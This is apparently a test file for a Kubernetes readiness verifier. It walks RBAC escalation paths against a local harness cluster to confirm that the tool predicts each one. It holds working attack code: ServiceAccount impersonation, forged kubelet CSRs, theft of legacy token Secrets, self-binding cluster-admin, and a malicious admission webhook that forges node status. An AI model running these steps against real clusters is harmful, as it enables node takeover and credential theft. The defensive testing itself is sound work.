// Escalation paths, proven by walking them: on NRC's hardened example plus one
// extra grant, node-a's real pod-bound reporter token performs the attack
// against the real apiserver, and `kubectl readiness verify` must have
// predicted exactly that outcome. Each class has a denied twin, where the
// same first hop leads nowhere. The real kube-controller-manager signs and
// approves CSRs and fills legacy token Secrets; the attacker's webhooks and
// node-b's kubelet port are HTTPS endpoints the harness serves. No kubelet
// runs here, so a pod path is proven as the issue asks: the create (or the
// exec through the kubelet port) succeeds, and the pod's bound token is minted
// as a kubelet would mint it.
import assert from 'node:assert/strict';
import { after, before, describe, it } from 'node:test';
import { readFileSync } from 'node:fs';
import { startCluster, type Cluster } from '../cluster/cluster.ts';
import { clientCSR, hostAddress, startEndpoint, type Endpoint, type Received } from '../cluster/endpoints.ts';
import { apiRequest, putNodeStatus, type ApiResponse } from '../cluster/requests.ts';
import { CONDITION, REPORTER, loadScenario, podBoundToken } from '../cluster/scenario.ts';
import { cli } from './cli-runner.ts';
import {
  CSR_PATH,
  NAMESPACE,
  TARGET,
  createCSR,
  asAccount,
  forgeStatus,
  impersonated,
  mintToken,
  outcome,
  poll,
  role,
  serviceAccount,
  statusWriter,
  twins,
  uidOf,
  walkAttacks,
  type Attack,
  type VerifyReport,
} from './escalation-kit.ts';

/** A ServiceAccount that writes node status, with a legacy token Secret that kube-controller-manager fills. */
const legacyTokenOf = (account: string) => `${statusWriter(account)}---
apiVersion: v1
kind: Secret
type: kubernetes.io/service-account-token
metadata: {name: ${account}-token, namespace: ${NAMESPACE}, annotations: {kubernetes.io/service-account.name: ${account}}}
`;

const THROWAWAY = 'node-x';

const liftTaints = (cluster: Cluster, token: string, account: string) =>
  apiRequest(cluster, {
    method: 'PATCH',
    path: `/api/v1/nodes/${TARGET}`,
    token,
    impersonateUser: asAccount(account),
    body: { spec: { taints: [] } },
    contentType: 'application/merge-patch+json',
  });

async function deleteThrowawayNode(cluster: Cluster, token: string, account: string): Promise<ApiResponse> {
  await cluster.kubectlOk(['apply', '-f', '-'], `apiVersion: v1\nkind: Node\nmetadata: {name: ${THROWAWAY}}\n`);
  return apiRequest(cluster, { method: 'DELETE', path: `/api/v1/nodes/${THROWAWAY}`, token, impersonateUser: asAccount(account) });
}

const attacks: [Attack, Attack][] = [
  [
    {
      name: "legacy impersonation of a ServiceAccount that may patch nodes: lifts node-b's taint",
      grants: impersonated('taint-lifter', '[{apiGroups: [""], resources: [nodes], verbs: [get, patch]}]'),
      run: (cluster, token) => liftTaints(cluster, token, 'taint-lifter'),
      capability: 'lift-readiness-taints',
    },
    {
      name: 'legacy impersonation of a ServiceAccount that may only read nodes',
      grants: impersonated('taint-reader', '[{apiGroups: [""], resources: [nodes], verbs: [get, list]}]'),
      run: (cluster, token) => liftTaints(cluster, token, 'taint-reader'),
      capability: 'lift-readiness-taints',
    },
  ],
  [
    {
      name: 'legacy impersonation of a ServiceAccount that may delete nodes',
      grants: impersonated('node-deleter', '[{apiGroups: [""], resources: [nodes], verbs: [delete]}]'),
      run: (cluster, token) => deleteThrowawayNode(cluster, token, 'node-deleter'),
      capability: 'disrupt-other-nodes',
    },
    {
      name: 'legacy impersonation of a ServiceAccount that may not',
      grants: impersonated('node-keeper', '[{apiGroups: [""], resources: [nodes], verbs: [get]}]'),
      run: (cluster, token) => deleteThrowawayNode(cluster, token, 'node-keeper'),
      capability: 'disrupt-other-nodes',
    },
  ],
  [
    {
      name: 'legacy impersonation of a user who may update node status',
      grants: `${role('impersonate-ops', '[{apiGroups: [""], resources: [users], verbs: [impersonate], resourceNames: [ops]}]')}---\n${role(
        'ops-status',
        '[{apiGroups: [""], resources: [nodes/status], verbs: [get, update]}]',
        '[{kind: User, name: ops, apiGroup: rbac.authorization.k8s.io}]',
      )}`,
      run: (cluster, token) => forgeStatus(cluster, token, 'ops'),
      capability: 'forge-other-node-conditions',
    },
    {
      name: 'legacy impersonation of a user who may not',
      grants: `${role('impersonate-guest', '[{apiGroups: [""], resources: [users], verbs: [impersonate], resourceNames: [guest]}]')}---\n${role(
        'guest-reader',
        '[{apiGroups: [""], resources: [nodes], verbs: [get]}]',
        '[{kind: User, name: guest, apiGroup: rbac.authorization.k8s.io}]',
      )}`,
      run: (cluster, token) => forgeStatus(cluster, token, 'guest'),
      capability: 'forge-other-node-conditions',
    },
  ],
  [
    {
      name: 'legacy impersonation of a ServiceAccount that writes node status',
      grants: `${statusWriter('writer-a')}---\n${role('impersonate-writer-a', '[{apiGroups: [""], resources: [serviceaccounts], verbs: [impersonate], resourceNames: [writer-a]}]', undefined, NAMESPACE)}`,
      run: (cluster, token) => forgeStatus(cluster, token, `system:serviceaccount:${NAMESPACE}:writer-a`),
      capability: 'forge-other-node-conditions',
    },
    {
      name: 'legacy impersonation of a ServiceAccount that writes nothing',
      grants: `${serviceAccount('idle-a')}---\n${role('impersonate-idle-a', '[{apiGroups: [""], resources: [serviceaccounts], verbs: [impersonate], resourceNames: [idle-a]}]', undefined, NAMESPACE)}`,
      run: (cluster, token) => forgeStatus(cluster, token, `system:serviceaccount:${NAMESPACE}:idle-a`),
      capability: 'forge-other-node-conditions',
    },
  ],
  [
    {
      name: 'constrained impersonation of that ServiceAccount, with impersonate-on for status updates',
      grants: `${statusWriter('writer-b')}---\n${role(
        'constrained-writer-b',
        `[{apiGroups: [authentication.k8s.io], resources: [serviceaccounts], verbs: ["impersonate:serviceaccount"], resourceNames: [writer-b]}]`,
        undefined,
        NAMESPACE,
      )}---\n${role('impersonate-on-status', '[{apiGroups: [""], resources: [nodes/status], verbs: ["impersonate-on:serviceaccount:update"]}]')}`,
      run: (cluster, token) => forgeStatus(cluster, token, `system:serviceaccount:${NAMESPACE}:writer-b`),
      capability: 'forge-other-node-conditions',
    },
    {
      name: 'constrained impersonation of it without impersonate-on',
      grants: `${statusWriter('writer-c')}---\n${role(
        'constrained-writer-c',
        `[{apiGroups: [authentication.k8s.io], resources: [serviceaccounts], verbs: ["impersonate:serviceaccount"], resourceNames: [writer-c]}]`,
        undefined,
        NAMESPACE,
      )}`,
      run: (cluster, token) => forgeStatus(cluster, token, `system:serviceaccount:${NAMESPACE}:writer-c`),
      capability: 'forge-other-node-conditions',
    },
  ],
  [
    {
      name: "minting the reporter's own token, bound to node-b",
      grants: role(
        'self-minter',
        `[{apiGroups: [""], resources: [serviceaccounts/token], verbs: [create], resourceNames: [${REPORTER.serviceAccount}]}]`,
        undefined,
        NAMESPACE,
      ),
      run: async (cluster, token) => {
        const minted = await mintToken(cluster, token, REPORTER.serviceAccount, {
          kind: 'Node',
          name: TARGET,
          uid: await uidOf(cluster, ['get', 'node', TARGET]),
        });
        return minted.token ? forgeStatus(cluster, minted.token, `system:node:${TARGET}`) : minted.response;
      },
      capability: 'forge-other-node-conditions',
    },
    {
      name: 'minting tokens only for a ServiceAccount that writes nothing',
      grants: `${serviceAccount('idle-b')}---\n${role('idle-minter', '[{apiGroups: [""], resources: [serviceaccounts/token], verbs: [create], resourceNames: [idle-b]}]', undefined, NAMESPACE)}`,
      run: async (cluster, token) => {
        const minted = await mintToken(cluster, token, 'idle-b', {
          kind: 'Node',
          name: TARGET,
          uid: await uidOf(cluster, ['get', 'node', TARGET]),
        });
        return minted.token ? forgeStatus(cluster, minted.token, `system:node:${TARGET}`) : minted.response;
      },
      capability: 'forge-other-node-conditions',
    },
  ],
  [
    {
      name: 'binding itself cluster-admin',
      grants: role(
        'binder',
        '[{apiGroups: [rbac.authorization.k8s.io], resources: [clusterrolebindings], verbs: [create]}, {apiGroups: [rbac.authorization.k8s.io], resources: [clusterroles], verbs: [bind], resourceNames: [cluster-admin]}]',
      ),
      run: async (cluster, token) => bindAndForge(cluster, token, 'cluster-admin', 'attack-admin'),
      capability: 'forge-other-node-conditions',
    },
    {
      // Not view: it reads pods/log, which the ledger leaves unassessed. The attack still binds cluster-admin, which RBAC refuses.
      name: 'binding only a role that reads nodes',
      grants: `${role('node-viewer', '[{apiGroups: [""], resources: [nodes], verbs: [get, list]}]')}---\n${role(
        'viewer-binder',
        '[{apiGroups: [rbac.authorization.k8s.io], resources: [clusterrolebindings], verbs: [create]}, {apiGroups: [rbac.authorization.k8s.io], resources: [clusterroles], verbs: [bind], resourceNames: [node-viewer]}]',
      )}`,
      run: async (cluster, token) => bindAndForge(cluster, token, 'cluster-admin', 'attack-admin'),
      capability: 'forge-other-node-conditions',
    },
  ],
  twins(
    'change-rules',
    (cluster, token) => patchRule(cluster, token),
    [
      'patching the rule to dry run',
      role('rule-patcher', '[{apiGroups: [readiness.node.x-k8s.io], resources: [nodereadinessrules], verbs: [patch]}]'),
    ],
    [
      'reading the rules only',
      role('rule-reader', '[{apiGroups: [readiness.node.x-k8s.io], resources: [nodereadinessrules], verbs: [get, list, watch]}]'),
    ],
  ),
  twins(
    'change-rules',
    (cluster, token) => scaleController(cluster, token),
    [
      "scaling NRC's controller to zero",
      role('controller-scaler', '[{apiGroups: [apps], resources: [deployments/scale], verbs: [patch]}]', undefined, 'nrc-system'),
    ],
    [
      "reading NRC's controller Deployment only",
      role('controller-reader', '[{apiGroups: [apps], resources: [deployments], verbs: [get, list]}]', undefined, 'nrc-system'),
    ],
  ),
  [
    {
      name: 'legacy impersonation of a ServiceAccount that may patch nodes: cordons node-b',
      grants: impersonated('cordoner', '[{apiGroups: [""], resources: [nodes], verbs: [get, patch]}]'),
      run: (cluster, token) => cordon(cluster, token, 'cordoner'),
      capability: 'disrupt-other-nodes',
    },
    {
      name: 'legacy impersonation of a ServiceAccount that may only read nodes, to cordon',
      grants: impersonated('cordon-reader', '[{apiGroups: [""], resources: [nodes], verbs: [get]}]'),
      run: (cluster, token) => cordon(cluster, token, 'cordon-reader'),
      capability: 'disrupt-other-nodes',
    },
  ],
  twins(
    'forge-other-node-conditions',
    (cluster, token) => forgeWithNodeCertificate(cluster, token, 'approve'),
    [
      "creating and approving a kubelet client CSR for node-b: node-b's certificate",
      role(
        'csr-approver',
        `[{apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests], verbs: [create, get]},
          {apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests/approval], verbs: [update]},
          {apiGroups: [certificates.k8s.io], resources: [signers], verbs: [approve], resourceNames: [kubernetes.io/kube-apiserver-client-kubelet]}]`,
      ),
    ],
    [
      // Approving for the plain client signer is a path of its own now (any user and group): the nearest twin lacks the approval subresource.
      'the same, without certificatesigningrequests/approval',
      role(
        'csr-approver-no-approval',
        `[{apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests], verbs: [create, get]},
          {apiGroups: [certificates.k8s.io], resources: [signers], verbs: [approve], resourceNames: [kubernetes.io/kube-apiserver-client-kubelet]}]`,
      ),
    ],
  ),
  twins(
    'forge-other-node-conditions',
    (cluster, token) => forgeWithNodeCertificate(cluster, token, 'wait'),
    [
      'creating a kubelet client CSR that kube-controller-manager approves for nodeclient',
      role(
        'csr-nodeclient',
        `[{apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests], verbs: [create, get]},
          {apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests/nodeclient], verbs: [create]}]`,
      ),
    ],
    [
      'creating one without nodeclient: nobody approves it',
      role('csr-creator', '[{apiGroups: [certificates.k8s.io], resources: [certificatesigningrequests], verbs: [create, get]}]'),
    ],
  ),
  [
    {
      name: "reading Secrets in kube-system: a status writer's legacy token",
      grants: `${legacyTokenOf('writer-s')}---\n${role('secret-reader', '[{apiGroups: [""], resources: [secrets], verbs: [get]}]', undefined, NAMESPACE)}`,
      run: (cluster, token) => forgeWithLegacyToken(cluster, token, 'writer-s'),
      capability: 'forge-other-node-conditions',
    },
    {
      name: 'reading Secrets only in default',
      grants: `${legacyTokenOf('writer-t')}---\n${role('secret-reader-default', '[{apiGroups: [""], resources: [secrets], verbs: [get]}]', undefined, 'default')}`,
      run: (cluster, token) => forgeWithLegacyToken(cluster, token, 'writer-t'),
      capability: 'forge-other-node-conditions',
    },
  ],
  twins(
    'forge-other-node-conditions',
    (cluster, token) => proxyToKubeletAndForge(cluster, token),
    [
      "nodes/proxy to node-b's kubelet, then the token of the reporter pod there",
      role('node-proxy', '[{apiGroups: [""], resources: [nodes/proxy], verbs: [get, create]}]'),
    ],
    ['reading nodes, without nodes/proxy', role('node-get', '[{apiGroups: [""], resources: [nodes], verbs: [get]}]')],
  ),
  twins(
    'forge-other-node-conditions',
    (cluster, token) => registerWebhookAndWrite(cluster, token, 'mutating'),
    [
      "registering a mutating webhook: node-b's own writes are forged",
      role('mutator', '[{apiGroups: [admissionregistration.k8s.io], resources: [mutatingwebhookconfigurations], verbs: [create]}]'),
    ],
    [
      'reading mutating webhooks only',
      role(
        'mutator-reader',
        '[{apiGroups: [admissionregistration.k8s.io], resources: [mutatingwebhookconfigurations], verbs: [get, list]}]',
      ),
    ],
  ),
  twins(
    'disrupt-other-nodes',
    (cluster, token) => registerWebhookAndWrite(cluster, token, 'validating'),
    [
      "registering a validating webhook: node-b's own writes are denied",
      role('denier', '[{apiGroups: [admissionregistration.k8s.io], resources: [validatingwebhookconfigurations], verbs: [create]}]'),
    ],
    [
      'reading validating webhooks only',
      role(
        'denier-reader',
        '[{apiGroups: [admissionregistration.k8s.io], resources: [validatingwebhookconfigurations], verbs: [get, list]}]',
      ),
    ],
  ),
];

/** NRC's controller, deployed as its Helm chart does (no controllers run here, so it never starts a pod). */
const READINESS_CONTROLLER = `apiVersion: v1
kind: Namespace
metadata: {name: nrc-system}
---
apiVersion: apps/v1
kind: Deployment
metadata: {name: node-readiness-controller, namespace: nrc-system}
spec:
  replicas: 1
  selector: {matchLabels: {app: node-readiness-controller}}
  template:
    metadata: {labels: {app: node-readiness-controller}}
    spec:
      containers: [{name: manager, image: "registry.k8s.io/node-readiness-controller/node-readiness-controller:v0.3.0"}]
`;

function scaleController(cluster: Cluster, token: string): Promise<ApiResponse> {
  return apiRequest(cluster, {
    method: 'PATCH',
    path: '/apis/apps/v1/namespaces/nrc-system/deployments/node-readiness-controller/scale',
    token,
    body: { spec: { replicas: 0 } },
    contentType: 'application/merge-patch+json',
  });
}

async function cordon(cluster: Cluster, token: string, account: string): Promise<ApiResponse> {
  const response = await apiRequest(cluster, {
    method: 'PATCH',
    path: `/api/v1/nodes/${TARGET}`,
    token,
    impersonateUser: asAccount(account),
    body: { spec: { unschedulable: true } },
    contentType: 'application/merge-patch+json',
  });
  if (response.status === 200) await cluster.kubectlOk(['uncordon', TARGET]);
  return response;
}

/**
 * A kubelet's client certificate for node-b, asked for with node-a's token:
 * approved by the attacker (`approve`) or by kube-controller-manager (`wait`),
 * signed by kube-controller-manager, then used to write node-b's status.
 */
async function forgeWithNodeCertificate(cluster: Cluster, token: string, approval: 'approve' | 'wait'): Promise<ApiResponse> {
  const { csr, key } = await clientCSR(`system:node:${TARGET}`, 'system:nodes');
  const name = `attack-${Date.now()}`;
  const created = await createCSR(cluster, token, name, csr, 'kubernetes.io/kube-apiserver-client-kubelet');
  if (created.status !== 201) return created;
  if (approval === 'approve') {
    const request = created.body as { status?: Record<string, unknown> };
    request.status = { conditions: [{ type: 'Approved', status: 'True', reason: 'Attack', message: 'approved from node-a' }] };
    const approved = await apiRequest(cluster, { method: 'PUT', path: `${CSR_PATH}/${name}/approval`, token, body: request });
    if (approved.status !== 200) return approved;
  }
  const certificate = await poll(approval === 'approve' ? 30 : 10, async () => {
    const read = await apiRequest(cluster, { method: 'GET', path: `${CSR_PATH}/${name}`, token });
    const issued = (read.body as { status?: { certificate?: string } }).status?.certificate;
    return issued ? Buffer.from(issued, 'base64').toString() : null;
  });
  if (!certificate) return outcome(false, 'no certificate was issued');
  return forgeStatus(cluster, '', undefined, { cert: certificate, key });
}

async function forgeWithLegacyToken(cluster: Cluster, token: string, account: string): Promise<ApiResponse> {
  let refused: ApiResponse | null = null;
  const legacy = await poll(30, async () => {
    const read = await apiRequest(cluster, { method: 'GET', path: `/api/v1/namespaces/${NAMESPACE}/secrets/${account}-token`, token });
    if (read.status !== 200) {
      refused = read;
      return '';
    }
    const encoded = (read.body as { data?: { token?: string } }).data?.token;
    return encoded ? Buffer.from(encoded, 'base64').toString() : null;
  });
  if (refused) return refused;
  if (!legacy) return outcome(false, 'kube-controller-manager never filled the token Secret');
  return forgeStatus(cluster, legacy);
}

let kubelet: Endpoint;
let webhook: Endpoint;

/**
 * The apiserver proxies to node-b's kubelet port (the harness serves it on a
 * real interface: the apiserver refuses loopback node addresses). Exec
 * through that port hands over any pod's token; no kubelet runs here, so the
 * reporter pod's token on node-b is minted as its kubelet would project it.
 */
async function proxyToKubeletAndForge(cluster: Cluster, token: string): Promise<ApiResponse> {
  await apiRequest(cluster, {
    method: 'PATCH',
    path: `/api/v1/nodes/${TARGET}/status`,
    body: {
      status: {
        addresses: [{ type: 'InternalIP', address: hostAddress() }],
        daemonEndpoints: { kubeletEndpoint: { Port: kubelet.port } },
      },
    },
    contentType: 'application/merge-patch+json',
  });
  const before = kubelet.received.length;
  const proxied = await apiRequest(cluster, { method: 'GET', path: `/api/v1/nodes/${TARGET}/proxy/runningpods/`, token });
  if (proxied.status !== 200) return proxied;
  assert.equal(kubelet.received.at(before)?.path, '/runningpods/', "the request reached node-b's kubelet port");
  return forgeStatus(cluster, await podBoundToken(cluster, TARGET), `system:node:${TARGET}`);
}

const FORGED_MESSAGE = 'forged by a webhook';

/** The admission webhook an attacker would run: forges node-b's condition, or denies node-b's writes. */
function answerAdmission(received: Received): { status: number; body: unknown } {
  const review = JSON.parse(received.body) as { request: { uid: string; name?: string } };
  const forNodeB = review.request.name === TARGET;
  const path = new URL(received.path, 'https://webhook').pathname;
  const now = new Date().toISOString();
  const forged = [
    { type: CONDITION, status: 'True', reason: 'Forged', message: FORGED_MESSAGE, lastHeartbeatTime: now, lastTransitionTime: now },
  ];
  const response =
    path === '/forge' && forNodeB
      ? {
          allowed: true,
          patchType: 'JSONPatch',
          patch: Buffer.from(JSON.stringify([{ op: 'replace', path: '/status/conditions', value: forged }])).toString('base64'),
        }
      : path === '/deny' && forNodeB
        ? { allowed: false, status: { code: 403, message: 'denied by a webhook' } }
        : { allowed: true };
  return {
    status: 200,
    body: { apiVersion: 'admission.k8s.io/v1', kind: 'AdmissionReview', response: { uid: review.request.uid, ...response } },
  };
}

/**
 * Registers a webhook on node status updates with node-a's token, then lets
 * node-b's status be written by someone else (the harness admin): a mutating
 * webhook worked when the stored condition is the attacker's, a validating
 * one when the write is denied.
 */
async function registerWebhookAndWrite(cluster: Cluster, token: string, kind: 'mutating' | 'validating'): Promise<ApiResponse> {
  const resource = `${kind}webhookconfigurations`;
  const name = `attack-${kind}`;
  const registered = await apiRequest(cluster, {
    method: 'POST',
    path: `/apis/admissionregistration.k8s.io/v1/${resource}`,
    token,
    body: {
      apiVersion: 'admissionregistration.k8s.io/v1',
      kind: kind === 'mutating' ? 'MutatingWebhookConfiguration' : 'ValidatingWebhookConfiguration',
      metadata: { name },
      webhooks: [
        {
          name: `${kind}.attack.example.com`,
          clientConfig: {
            url: `${webhook.url}${kind === 'mutating' ? '/forge' : '/deny'}`,
            caBundle: Buffer.from(readFileSync(cluster.caFile)).toString('base64'),
          },
          rules: [{ operations: ['UPDATE'], apiGroups: [''], apiVersions: ['v1'], resources: ['nodes/status'] }],
          sideEffects: 'None',
          admissionReviewVersions: ['v1'],
          failurePolicy: 'Ignore',
        },
      ],
    },
  });
  if (registered.status !== 201) return registered;
  try {
    // The apiserver picks up a new webhook configuration within a second or so.
    const worked = await poll(15, async () => {
      const write = await putNodeStatus(cluster, { node: TARGET, message: 'written by node-b', healthy: false });
      if (kind === 'validating') return write.status === 403 && write.message.includes('denied by a webhook') ? write.message : null;
      const stored = JSON.parse(await cluster.kubectlOk(['get', 'node', TARGET, '-o', 'json'])) as {
        status: { conditions?: { type: string; message?: string }[] };
      };
      return stored.status.conditions?.find((condition) => condition.type === CONDITION)?.message === FORGED_MESSAGE ? 'forged' : null;
    });
    return outcome(worked !== null, worked ?? `the ${kind} webhook never acted`);
  } finally {
    await cluster.kubectlOk(['delete', resource, name]);
  }
}

async function bindAndForge(cluster: Cluster, token: string, clusterRole: string, name: string): Promise<ApiResponse> {
  const bound = await apiRequest(cluster, {
    method: 'POST',
    path: '/apis/rbac.authorization.k8s.io/v1/clusterrolebindings',
    token,
    body: {
      apiVersion: 'rbac.authorization.k8s.io/v1',
      kind: 'ClusterRoleBinding',
      metadata: { name },
      roleRef: { apiGroup: 'rbac.authorization.k8s.io', kind: 'ClusterRole', name: clusterRole },
      subjects: [{ kind: 'ServiceAccount', name: REPORTER.serviceAccount, namespace: NAMESPACE }],
    },
  });
  if (bound.status !== 201) return bound;
  try {
    return await forgeStatus(cluster, token);
  } finally {
    await cluster.kubectlOk(['delete', 'clusterrolebinding', name]);
  }
}

function patchRule(cluster: Cluster, token: string): Promise<ApiResponse> {
  return apiRequest(cluster, {
    method: 'PATCH',
    path: '/apis/readiness.node.x-k8s.io/v1alpha1/nodereadinessrules/network-readiness-rule',
    token,
    body: { spec: { dryRun: true } },
    contentType: 'application/merge-patch+json',
  });
}

walkAttacks("escalation paths, walked for real with node-a's reporter token", attacks, async (cluster) => {
  await cluster.kubectlOk(['apply', '-f', '-'], READINESS_CONTROLLER);
  kubelet = await startEndpoint(cluster, hostAddress(), () => ({ status: 200, body: { kind: 'PodList', apiVersion: 'v1', items: [] } }));
  webhook = await startEndpoint(cluster, '127.0.0.1', answerAdmission);
  return async () => {
    await kubelet?.close();
    await webhook?.close();
  };
});

describe('who else can lie about a node: the reverse question, walked for real', () => {
  let cluster: Cluster;
  let bystanderToken: string;
  const groupBinding = `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: constrained-for-every-serviceaccount}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: node-status-patcher-constrained}
subjects: [{kind: Group, name: "system:serviceaccounts", apiGroup: rbac.authorization.k8s.io}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRoleBinding
metadata: {name: impersonator-for-every-serviceaccount}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: node-readiness-impersonator}
subjects: [{kind: Group, name: "system:serviceaccounts", apiGroup: rbac.authorization.k8s.io}]
`;
  before(async () => {
    cluster = await startCluster();
    await loadScenario(cluster, 'hardened');
    // Any other workload's pod on node-b: a ServiceAccount no reporter uses, bound to no role.
    await cluster.kubectlOk(
      ['apply', '-f', '-'],
      `apiVersion: v1
kind: ServiceAccount
metadata: {name: bystander, namespace: default}
---
apiVersion: v1
kind: Pod
metadata: {name: bystander, namespace: default}
spec: {serviceAccountName: bystander, nodeName: ${TARGET}, containers: [{name: c, image: registry.k8s.io/pause:3.10}]}
`,
    );
    const uid = await uidOf(cluster, ['-n', 'default', 'get', 'pod', 'bystander']);
    bystanderToken = (
      await cluster.kubectlOk([
        '-n',
        'default',
        'create',
        'token',
        'bystander',
        '--bound-object-kind=Pod',
        '--bound-object-name=bystander',
        `--bound-object-uid=${uid}`,
      ])
    ).trim();
  });
  after(() => cluster?.stop());

  const otherLiars = () =>
    (JSON.parse(cli(['verify', '-o', 'json', '--kubeconfig', cluster.kubeconfig]).stdout) as VerifyReport).findings
      .filter((finding) => finding.id === 'others-can-lie')
      .map((finding) => finding.title);

  it("NRC's hardened example: a bystander pod on node-b cannot rewrite node-b's conditions, and verify names no one else", async () => {
    const outcome = await forgeStatus(cluster, bystanderToken, `system:node:${TARGET}`);
    assert.equal(outcome.status, 403, outcome.message);
    assert.deepEqual(otherLiars(), []);
  });

  // Before the group binding below: with it, every ServiceAccount has a path, and a subject with a path is named for it alone.
  it('a bystander that may create ConfigMaps, which no class walks, is named unassessed; its twin that may create Events is not', async () => {
    const unassessedOthers = () =>
      (
        JSON.parse(cli(['verify', '-o', 'json', '--kubeconfig', cluster.kubeconfig]).stdout) as {
          findings: { id: string; title: string; evidence: string[] }[];
        }
      ).findings
        .filter((finding) => finding.id === 'others-unassessed')
        .map((finding) => ({ title: finding.title, evidence: finding.evidence }));
    const grantTo = (resource: string) => `apiVersion: rbac.authorization.k8s.io/v1
kind: ClusterRole
metadata: {name: bystander-writes}
rules: [{apiGroups: [""], resources: [${resource}], verbs: [create]}]
---
apiVersion: rbac.authorization.k8s.io/v1
kind: RoleBinding
metadata: {name: bystander-writes, namespace: default}
roleRef: {apiGroup: rbac.authorization.k8s.io, kind: ClusterRole, name: bystander-writes}
subjects: [{kind: ServiceAccount, name: bystander, namespace: default}]
`;
    const create = (resource: string, body: Record<string, unknown>) =>
      apiRequest(cluster, { method: 'POST', path: `/api/v1/namespaces/default/${resource}`, token: bystanderToken, body });
    const configMap = { apiVersion: 'v1', kind: 'ConfigMap', metadata: { name: 'bystander-note' }, data: { note: 'x' } };
    const event = {
      apiVersion: 'v1',
      kind: 'Event',
      metadata: { name: 'bystander-note' },
      involvedObject: { kind: 'Pod', name: 'bystander', namespace: 'default' },
      reason: 'Note',
      message: 'x',
    };
    assert.deepEqual(unassessedOthers(), [], "NRC's hardened example on the built-in roles leaves no one unassessed");

    const denied = await create('configmaps', configMap);
    assert.equal(denied.status, 403, `without the grant the create is refused: ${denied.message}`);
    await cluster.kubectlOk(['apply', '-f', '-'], grantTo('configmaps'));
    const created = await poll(10, async () => {
      const response = await create('configmaps', configMap);
      return response.status === 201 ? response : null;
    });
    assert.ok(created, 'the bystander really holds the unassessed grant');
    const [named, ...others] = unassessedOthers();
    assert.equal(others.length, 0);
    assert.equal(
      named?.title,
      'ServiceAccount default/bystander, not a reporter, holds 1 permission(s) no escalation class walks: whether it can lie about a node is not assessed',
    );
    assert.match(
      named!.evidence[0]!,
      /^create configmaps in default: RoleBinding default\/bystander-writes → ClusterRole bystander-writes: /,
    );
    assert.deepEqual(otherLiars(), []);

    await cluster.kubectlOk(['apply', '-f', '-'], grantTo('events'));
    const createdEvent = await poll(10, async () => {
      const response = await create('events', event);
      return response.status === 201 ? response : null;
    });
    assert.ok(createdEvent, 'the twin really holds its inert grant');
    const refused = await create('configmaps', { ...configMap, metadata: { name: 'bystander-note-2' } });
    assert.equal(refused.status, 403, `the twin no longer holds the ConfigMap grant: ${refused.message}`);
    assert.deepEqual(unassessedOthers(), []);
    assert.deepEqual(otherLiars(), []);
    await cluster.kubectlOk(['delete', 'rolebinding', '-n', 'default', 'bystander-writes']);
  });

  it('constrained grants bound to every ServiceAccount: the bystander rewrites its node, and verify names the group', async () => {
    await cluster.kubectlOk(['apply', '-f', '-'], groupBinding);
    assert.deepEqual(otherLiars(), ["Group system:serviceaccounts, not a reporter, can rewrite its own node's conditions"]);
    const outcome = await forgeStatus(cluster, bystanderToken, `system:node:${TARGET}`);
    assert.equal(outcome.status, 200, outcome.message);
  });
});
